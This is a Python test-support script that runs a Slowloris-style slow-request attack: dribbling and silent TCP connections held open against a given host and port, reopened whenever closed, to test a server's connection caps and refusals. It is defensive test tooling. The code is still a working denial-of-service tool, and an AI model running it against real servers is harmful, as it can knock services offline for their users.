"""A hostile peer as a process: holds dribbling and silent connections open on one port.

Dribblers send a request head one byte per tick and never finish it; silent ones send
nothing. A connection the server closes is opened again at the next tick, within a budget
of attempts, so the attack keeps up its pressure for as long as it runs. All sockets come
from `SOURCE` (another loopback address in tests, so that a per-address cap can tell the
attacker from the TTP). Once every connection was tried it writes `READY_FILE`; after every
tick it writes its counts as JSON to `STATS_FILE`; on SIGTERM or after `SECONDS` it closes
everything.

Run: `python -m tests.support.slow_attack HOST PORT SOURCE DRIBBLERS SILENT SECONDS
READY_FILE STATS_FILE`.
"""

from __future__ import annotations

import contextlib
import json
import select
import signal
import socket
import sys
import threading
import time
from pathlib import Path

HEAD = b"POST /data/p/r/fit HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 100_000
TICK = 0.5
ATTEMPT_BUDGET_PER_CONNECTION = 200


class Attack:
    """The attacker's connections and counts."""

    def __init__(self, host: str, port: int, source: str, dribblers: int, silent: int) -> None:
        self.address, self.source = (host, port), source
        self.kinds = ["dribble"] * dribblers + ["silent"] * silent
        self.sockets: list[socket.socket | None] = [None] * len(self.kinds)
        self.sent = [0] * len(self.kinds)
        self.budget = ATTEMPT_BUDGET_PER_CONNECTION * len(self.kinds)
        # refused: the server answered (a 503) and closed; cut: it closed without a word
        self.counts = {"opened": 0, "refused": 0, "cut": 0, "failed_to_open": 0}

    def open(self, index: int) -> None:
        """(Re)open connection `index` if the budget allows."""
        if self.budget <= 0:
            return
        self.budget -= 1
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.bind((self.source, 0))
            sock.settimeout(2.0)
            sock.connect(self.address)
            sock.setblocking(False)
        except OSError:
            sock.close()
            self.counts["failed_to_open"] += 1
            return
        self.sockets[index], self.sent[index] = sock, 0
        self.counts["opened"] += 1

    def tick(self) -> None:
        """One round: notice closed sockets, reopen them, send one byte per dribbler."""
        poller = select.poll()  # not select(): it cannot watch descriptors past 1023
        for sock in self.sockets:
            if sock is not None:
                poller.register(sock, select.POLLIN)
        readable = {fd for fd, _ in poller.poll(0)}
        for index, sock in enumerate(self.sockets):
            if sock is None:
                self.open(index)
                continue
            outcome = None
            if sock.fileno() in readable:  # an answer (a refusal) or the close: drop it
                answer = b""
                with contextlib.suppress(OSError):
                    answer = sock.recv(65536)
                outcome = "refused" if answer else "cut"
            elif self.kinds[index] == "dribble":
                try:
                    sock.send(HEAD[self.sent[index]:self.sent[index] + 1])
                    self.sent[index] += 1
                except OSError:
                    outcome = "cut"
            if outcome is not None:
                sock.close()
                self.sockets[index] = None
                self.counts[outcome] += 1

    def close(self) -> None:
        """Close every connection."""
        for sock in self.sockets:
            if sock is not None:
                sock.close()


def main(argv: list[str]) -> int:
    host, port, source, dribblers, silent, seconds, ready_file, stats_file = argv
    attack = Attack(host, int(port), source, int(dribblers), int(silent))
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    for index in range(len(attack.kinds)):
        attack.open(index)
    Path(ready_file).write_text(json.dumps(attack.counts))
    deadline = time.monotonic() + float(seconds)
    stats, scratch = Path(stats_file), Path(stats_file + ".tmp")
    while not stop.wait(TICK) and time.monotonic() < deadline:
        attack.tick()
        scratch.write_text(json.dumps(attack.counts))
        scratch.replace(stats)
    attack.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
